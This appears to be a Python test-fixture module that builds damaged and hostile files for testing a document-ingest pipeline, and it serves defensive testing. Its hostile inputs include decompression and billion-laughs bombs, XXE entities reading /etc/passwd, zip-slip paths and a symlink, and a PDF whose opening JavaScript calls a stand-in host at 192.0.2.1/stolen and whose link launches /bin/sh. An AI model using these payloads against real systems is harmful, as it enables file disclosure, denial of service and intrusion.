"""Files that an ingest must survive: damaged, locked, bloated, lying; made byte by byte, every company invented."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from tests.adapters.parse_pdf.pdf_writer import Page, pdf

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\0IEND\xaeB`\x82"
MEGABYTE = 1 << 20
BODY = [
    "公司上半年收入同比增长两成，海外订单占比提",
    "升至六成，毛利率随之上行，经营现金流由负",
    "转正，全年目标不变。",
]


def report(title: str, *lines: str, turns: int = 0) -> Page:
    """A page with a large title and lines of text below it."""
    page = Page(turns)
    page.write(50, 80, title, size=18)
    page.write_lines(50, 130, [*lines, *BODY])
    return page


def zeros(n_megabytes: int) -> bytes:
    """A zlib stream of so many megabytes of zeros, made without compressing them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    length = n_megabytes * MEGABYTE
    return b"\x78\xda" + megabyte * n_megabytes + b"\x03\0" + struct.pack(">I", (length % 65521) << 16 | 1)


# PDF made of raw objects, in Latin letters, for what no writer would write


def raw_pdf(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """Objects 1, 2, … with a sound cross-reference table; the first is the catalog."""
    content, offsets = b"%PDF-1.7\n", list[int]()
    for number, body in enumerate(objects, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(content))
    return content + head + table + end


def stream(data: bytes, fields: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (fields, len(data), data)


def latin(text: str, *, pages: bytes = b"/Kids [3 0 R] /Count 1", extra: Sequence[bytes] = ()) -> bytes:
    """One page that says `text`; `pages` are the fields of the page tree's root."""
    marks = b"BT /F 12 Tf 50 700 Td (%s) Tj ET" % text.encode()
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages %s >>" % pages,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /Font << /F 5 0 R >> /XObject << /I 6 0 R >> >> >>",
            stream(marks),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )


def deflate_bomb() -> bytes:
    """Two kilobytes that unpack to a gigabyte of page content."""
    packed = zlib.compress(zeros(1024), 9)
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << >> >>",
            stream(packed, b"/Filter [/FlateDecode /FlateDecode]"),
        ]
    )


def image_page(side: int, *, packed: bytes) -> bytes:
    """One page that is covered by a square grey image."""
    fields = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /XObject << /I 5 0 R >> >> >>",
            stream(b"q 600 0 0 800 0 0 cm /I Do Q"),
            stream(packed, fields % (side, side) + b" /Filter [/FlateDecode /FlateDecode]"),
        ]
    )


def image_only() -> bytes:
    return image_page(64, packed=zlib.compress(zlib.compress(b"\xee" * 64 * 64)))


def image_of_60000_pixels() -> bytes:
    """An image of 3.6 gigapixels, all of them there, in a few kilobytes."""
    return image_page(60_000, packed=zlib.compress(zeros(60_000**2 // MEGABYTE + 1), 9))


def nested_object_streams() -> bytes:
    """The catalog lies in object stream 5, which lies in object stream 6, which lies in 5."""
    head = b"%PDF-1.5\n"
    entries = [(0, 0, 0), (2, 5, 0), (2, 5, 1), (0, 0, 0), (0, 0, 0), (2, 6, 0), (2, 5, 2), (1, len(head), 0)]
    table = b"".join(struct.pack(">BHB", *entry) for entry in entries)
    fields = b"/Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R"
    return head + b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(table, fields), len(head))


# PDF made by changing a sound one


def changed(content: bytes, change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(content)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def turned(content: bytes, degrees: int) -> bytes:
    """The same pages, shown turned."""
    return changed(content, lambda writer: [page.rotate(degrees) for page in writer.pages])


def encrypted(content: bytes, user_password: str) -> bytes:
    return changed(content, lambda writer: writer.encrypt(user_password, "owner", algorithm="AES-256"))


def glued(*contents: bytes) -> bytes:
    writer = PdfWriter()
    for content in contents:
        writer.append(io.BytesIO(content))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def garbled(title: str) -> bytes:
    """Text whose glyphs are numbered as in a subset of a face, and no table that says which characters they are."""
    letters = sorted({*title, *"".join(BODY)})
    numbers = {letter: chr(3 + number) for number, letter in enumerate(letters)}
    page = Page()
    page.write_lines(50, 100, ["".join(numbers[letter] for letter in line) for line in (title, *BODY)])
    return pdf(page).replace(b"/ToUnicode 5 0 R", b"                ")


def lying_digits(page: Page) -> bytes:
    """The bold face says 2 where 1 is drawn, 3 for 2, and so on: nobody sees what is read."""

    def lie(writer: PdfWriter) -> None:
        face = writer.pages[0]["/Resources"]["/Font"]["/B"]
        mapping = face["/ToUnicode"].get_object().get_data().decode()
        for digit in "123456789":
            code = f"{ord(digit):04x}"
            mapping = mapping.replace(f"<{code}> <{code}>", f"<{code}> <{ord(str(int(digit) % 9 + 1)):04x}>")
        table = StreamObject()
        table.set_data(mapping.encode())
        face[NameObject("/ToUnicode")] = writer._add_object(table)

    return changed(pdf(page), lie)


def active(content: bytes) -> bytes:
    """JavaScript that runs on opening, a link that launches a program, and a file inside."""

    def arm(writer: PdfWriter) -> None:
        writer.add_attachment("invoice.exe", b"MZ hidden payload")
        script = _fields(S=NameObject("/JavaScript"), JS=TextStringObject("app.launchURL('http://192.0.2.1/stolen')"))
        launch = _fields(S=NameObject("/Launch"), F=TextStringObject("/bin/sh"))
        area = ArrayObject(map(FloatObject, (0, 0, 600, 800)))
        link = _fields(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=area, A=launch)
        writer.root_object[NameObject("/OpenAction")] = script
        writer.pages[0][NameObject("/Annots")] = ArrayObject([link])

    return changed(content, arm)


def with_xfa(content: bytes) -> bytes:
    """A form in XML that names a file of this machine."""

    def add(writer: PdfWriter) -> None:
        form = StreamObject()
        form.set_data(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp>&e;</xdp>')
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): form})

    return changed(content, add)


def _fields(**fields: PdfObject) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in fields.items()})


# archives and Word documents


def archive(*members: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members:
            packed.writestr(name, content)
    return buffer.getvalue()


def link_member(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def archive_bomb() -> bytes:
    return archive(("report.txt", bytes(64 * MEGABYTE)))


def million_members() -> bytes:
    """An archive's directory of a million entries, all of them the same empty text file."""
    name, count = b"a.txt", 1_000_000
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name
    start, size = len(local), count * len(entry)
    end64 = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, start)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, start + size, 1)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
    return local + entry * count + end64 + locator + end


_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org"
_TYPES = (
    f'<Types xmlns="{_OFFICE}/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>'
)
_RELATIONS = (
    f'<Relationships xmlns="{_OFFICE}/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{_OFFICE}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


MERGED = """<html><body><h1>合并材料点评</h1><p>表1：分业务预测（单位：亿元）</p><table>
<tr><th rowspan="2">业务</th><th colspan="2">营业收入</th><th colspan="2">毛利率（%）</th></tr>
<tr><th>2024A</th><th>2025E</th><th>2024A</th><th>2025E</th></tr>
<tr><td>储能</td><td>12.5</td><td>15.0</td><td>30.1</td><td>31.2</td></tr>
<tr><td>逆变器</td><td>8.0</td><td>(0.4)</td><td>22.0</td><td>23.5</td></tr>
</table></body></html>"""


def word(text: str, *, prologue: str = "", padding: int = 0) -> bytes:
    """A Word document of one paragraph."""
    body = f"{prologue}<w:document {_WORD}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    return archive(
        ("[Content_Types].xml", _TYPES.encode()),
        ("_rels/.rels", _RELATIONS.encode()),
        ("word/document.xml", body.encode() + b" " * padding),
    )


def word_with_entity(path: str) -> bytes:
    """Word that asks for the text of another file of this machine."""
    return word("页边文字 &stolen;", prologue=f'<!DOCTYPE w [<!ENTITY stolen SYSTEM "file://{path}">]>')


def word_of_laughs() -> bytes:
    """Ten levels of entities, each ten times the one before."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return word("&l9;", prologue=f'<!DOCTYPE w [<!ENTITY l0 "ha">{levels}]>')


# pages that are hard to read


def table_page(
    title: str, rows: Sequence[Sequence[str]], xs: Sequence[float], *, caption: str = "", drift: float = 0
) -> Page:
    """A page with a table, its values bold; from row to row they move to the right by `drift` points."""
    page = Page()
    page.write(50, 60, title, size=18)
    page.write(50, 90, caption)
    for number, row in enumerate(rows):
        for cell, x in zip(row, xs, strict=True):
            page.write(x + (drift * number if x > xs[0] else 0), 115 + 18 * number, cell, bold=number > 0 and x > xs[0])
    return page


def shifted_table() -> Page:
    """Values that drift, a year without one, a unit in the caption, negative brackets, full-width digits."""
    rows = [
        ("指标", "2023A", "2024E", "2025E"),
        ("营业收入", "１，２００", "1,500", "1,800"),
        ("归母净利润", "(120)", "", "95"),
    ]
    return table_page("错位材料点评", rows, (50, 200, 300, 400), caption="表1：主要财务指标（单位：百万元）", drift=6)


def checkable_table() -> Page:
    """Growth, earnings per share and multiples agree with one another and with a price of 40."""
    rows = [
        ("会计年度", "2022A", "2023A", "2024E"),
        ("营业收入（百万元）", "1,000", "1,200", "1,500"),
        ("同比增速（%）", "8.0", "20.0", "25.0"),
        ("每股收益（元）", "1.00", "1.25", "1.60"),
        ("市盈率（倍）", "40.0", "32.0", "25.0"),
    ]
    return table_page("错码材料点评", rows, (50, 250, 350, 450))


def strip_page() -> Page:
    """A line of single glyphs down the margin, beside the text."""
    page = Page()
    for number, letter in enumerate("远山证券研究所版权所有"):
        page.write(12, 100 + 14 * number, letter)
    page.write(60, 80, "竖条材料点评", size=18)
    page.write_lines(60, 130, BODY)
    return page


# everything that the trial takes in


def unreadable_files() -> dict[str, bytes]:
    """Files of which nothing can be had."""
    return {
        "picture.pdf": PNG,
        "webpage.pdf": b"<!doctype html><title>x</title><p>Quarterly figures",
        "packed.pdf": archive(("a.txt", b"text")),
        "nothing.pdf": b"",
        "stump.pdf": pdf(report("残段材料点评"))[:700],
        "locked.pdf": pdf(report("加锁材料点评"), user_password="secret"),
        "locked_aes.pdf": encrypted(pdf(report("再锁材料点评")), "secret"),
        "bomb.pdf": deflate_bomb(),
        "nested_streams.pdf": nested_object_streams(),
        "bomb.docx": word("膨胀材料", padding=64 << 20),
        "laughs.docx": word_of_laughs(),
        "bomb.zip": archive_bomb(),
        "million.zip": million_members(),
    }


def odd_files() -> dict[str, bytes]:
    """Two good files, and those that are read in full or in part."""
    upright = pdf(report("正放材料点评", "正放材料的订单排到年底。"))
    first = report("漠川材料（609901）点评", "投资评级：买入")
    second = report(
        "桐远电池（309902）点评", "投资评级：增持", "我们给予目标价35.00元。公司2025年营业收入为99.10亿元。"
    )
    return {
        "good.pdf": pdf(report("清溪材料点评", "清溪材料的产能利用率为九成。")),
        "good.md": "# 云岭材料点评\n\n云岭材料的产能利用率为七成。\n".encode(),
        "junk_before.pdf": b"mail header\r\n" * 20 + pdf(report("垃圾在前材料点评")),
        "owner.pdf": pdf(report("业主材料点评"), user_password=""),
        "owner_aes.pdf": encrypted(pdf(report("又主材料点评")), ""),
        "upright.pdf": upright,
        "upright_again.pdf": encrypted(upright, ""),
        "upright_drawn_90.pdf": pdf(report("正放材料点评", "正放材料的订单排到年底。", turns=1)),
        "upright_drawn_270.pdf": pdf(report("正放材料点评", "正放材料的订单排到年底。", turns=3)),
        "upright_shown_90.pdf": turned(upright, 90),
        "upright_shown_180.pdf": turned(upright, 180),
        "upright_shown_270.pdf": turned(upright, 270),
        "half.pdf": pdf(report("半截材料点评"), report("半截材料点评续"))[:-500],
        "garbled.pdf": garbled("乱码材料点评"),
        "image.pdf": image_only(),
        "mixed.pdf": glued(pdf(report("混排材料点评")), image_only(), pdf(report("混排材料附录"))),
        "page_loop.pdf": latin("Looping quarry", pages=b"/Kids [3 0 R 2 0 R] /Count 10000000"),
        "count_high.pdf": latin("Boastful quarry", pages=b"/Kids [3 0 R] /Count 10000000"),
        "count_low.pdf": latin("Modest quarry", pages=b"/Kids [3 0 R] /Count -1"),
        "thousand.pdf": pdf(*(report(f"千页材料第{number}节") for number in range(1000))),
        "lying.pdf": lying_digits(checkable_table()),
        "active.pdf": active(pdf(report("活动材料点评"))),
        "form.pdf": with_xfa(pdf(report("表单材料点评"))),
        "huge_image.pdf": image_of_60000_pixels(),
        "glued.pdf": glued(pdf(first), pdf(second)),
        "traditional.pdf": pdf(report("臺灣半導體設備點評", "營收成長來自先進製程的擴產。")),
        "strip.pdf": pdf(strip_page()),
        "shapes.pdf": pdf(shifted_table()),
        "merged.html": MERGED.encode(),
        "escape.zip": archive(
            ("inside.md", "# 仓内材料点评\n\n仓内材料的库存下降。\n".encode()),
            ("../outside.md", b"# escaped\n\nescaped upwards"),
            ("/absolute.md", b"# escaped\n\nescaped to the root"),
            ("..\\windows.md", b"# escaped\n\nescaped backwards"),
            link_member("link.md", "/etc/passwd"),
        ),
    }
